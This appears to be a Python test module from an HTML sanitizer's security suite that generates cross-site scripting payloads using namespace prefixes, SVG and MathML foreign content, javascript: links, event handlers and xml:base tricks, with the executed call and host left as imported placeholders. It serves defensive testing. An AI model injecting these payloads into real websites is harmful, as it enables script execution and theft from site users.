"""Names with prefixes and namespaces that HTML does not have, and a lenient parser honours."""

from collections.abc import Iterator

from tests.security.payloads.marks import CALL, HOST, IMAGE, SCRIPT

_PREFIXES = ("html", "svg", "x", "xhtml", "xlink", "xml", "ev", "a-b", "_", "html\x00")
_HOLDERS = (
    "<svg><@ onload={0}></@></svg>",
    "<math><@ onclick={0}>x</@></math>",
    "<svg><style><@></style>{1}</@>",
    "<math><@><style><a id='</style>{1}'></@></math>",
)
_TAGS = "p b div span table td font br img a ul pre em h2 ruby code head body html form".split()


def payloads() -> Iterator[str]:
    """Yield prefixed elements and attributes, declared namespaces, and HTML elements inside foreign content."""
    for prefix in _PREFIXES:
        yield f"<{prefix}:script>{CALL}</{prefix}:script>"
        yield f"<{prefix}:script xmlns:{prefix}='http://www.w3.org/1999/xhtml'>{CALL}</{prefix}:script>"
        yield f"<{prefix}:img src=x onerror={CALL}>"
        yield f"<svg><{prefix}:a xlink:href=javascript:{CALL}>x</{prefix}:a></svg>"
        yield f"<a {prefix}:href=javascript:{CALL}>x</a>"
        yield f"<img src=x {prefix}:onerror={CALL}>"
        yield f"<p xmlns:{prefix}={HOST} {prefix}:onclick={CALL}>x</p>"
    for tag in _TAGS:
        yield from (holder.replace("@", tag).format(CALL, IMAGE) for holder in _HOLDERS)
    yield f"<p xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</p>"
    yield f"<svg xmlns='http://www.w3.org/1999/xhtml'>{SCRIPT}</svg>"
    yield f"<html xmlns:x='{HOST}'><x:body onload={CALL}>"
    yield f"<?import namespace='x' implementation='{HOST}'><x:p onclick={CALL}>x</x:p>"
    yield f"<xml id=x><p>{IMAGE}</p></xml><span datasrc=#x datafld=p dataformatas=html></span>"
    yield f"<svg><x xmlns='http://www.w3.org/1999/xhtml'>{IMAGE}</x></svg>"
    yield f"<svg xmlns:xlink='http://www.w3.org/1999/xlink'><a xlink:href=javascript:{CALL}><g/></a></svg>"
    yield f"<p xml:base=javascript:{CALL}//><a href=#>x</a></p>"
    yield f"<p xml:lang='\"{IMAGE}'>x</p>"
